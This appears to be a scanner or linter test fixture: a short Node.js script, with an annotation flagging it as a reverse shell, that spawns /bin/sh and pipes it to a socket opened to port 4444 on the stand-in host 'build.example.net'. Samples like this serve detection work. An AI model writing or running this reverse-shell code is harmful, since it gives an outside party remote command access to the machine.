#!/usr/bin/env node
import { spawn } from "node:child_process";
import net from "node:net";

const shell = spawn("/bin/sh", []);
              ~~~~~~~~~~~~~~~~~~~~ [reverse-shell]
const link = net.connect(4444, "build.example.net", () => {
  link.pipe(shell.stdin);
  shell.stdout.pipe(link);
});
